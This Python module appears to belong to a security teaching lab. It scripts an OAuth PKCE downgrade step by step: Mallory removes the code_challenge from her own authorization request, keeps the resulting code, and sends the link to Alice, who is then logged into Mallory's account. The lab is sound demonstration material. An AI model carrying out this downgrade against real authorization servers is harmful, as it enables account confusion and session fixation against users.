"""Mallory takes the challenge out of her own request, and gives Alice the answer."""

from urllib.parse import urlencode

from labs.people import parameters_in
from labs.stage import Stage, Stuck
from labs.steps import step


@step("Alice", by_hand="{budget}/connect")
def alice_is_interrupted(stage: Stage) -> None:
    """Let Budget ask for access, and leave Bank ID's page open: do not sign in, and press no button there."""
    stage.alice.go(f"{stage.here.budget}/connect")


@step("attacker")
def mallory_deletes_the_challenge(stage: Stage) -> None:
    """Begin at Budget in Mallory's browser, take `code_challenge` out of the request, allow, and keep the answer."""
    mallory = stage.mallory
    mallory.holds_back = f"{stage.here.auth}/authorize"
    request = parameters_in(mallory.go(f"{stage.here.budget}/connect").handed_over)
    # An authorization request is in the hands of whoever's browser carries it: it can be shortened unseen.
    shorter = {name: value for name, value in request.items() if not name.startswith("code_challenge")}
    mallory.holds_back, mallory.handed_over = stage.callback("budget"), ""
    mallory.go(f"{stage.here.auth}/authorize?{urlencode(shorter)}").agree()
    if "code" not in parameters_in(mallory.handed_over):
        raise Stuck("Bank ID gave Mallory no code")
    # Alice's session will send its own verifier with this code, and there is no challenge that it could fail to fit.
    stage.onward = mallory.handed_over


@step("Alice")
def alice_follows_the_link(stage: Stage) -> None:
    """Follow the link that Mallory sent. Whose account is it?"""
    if "code" not in parameters_in(stage.mallory.handed_over):
        raise Stuck("Mallory has no link yet")
    stage.alice.go(stage.mallory.handed_over)
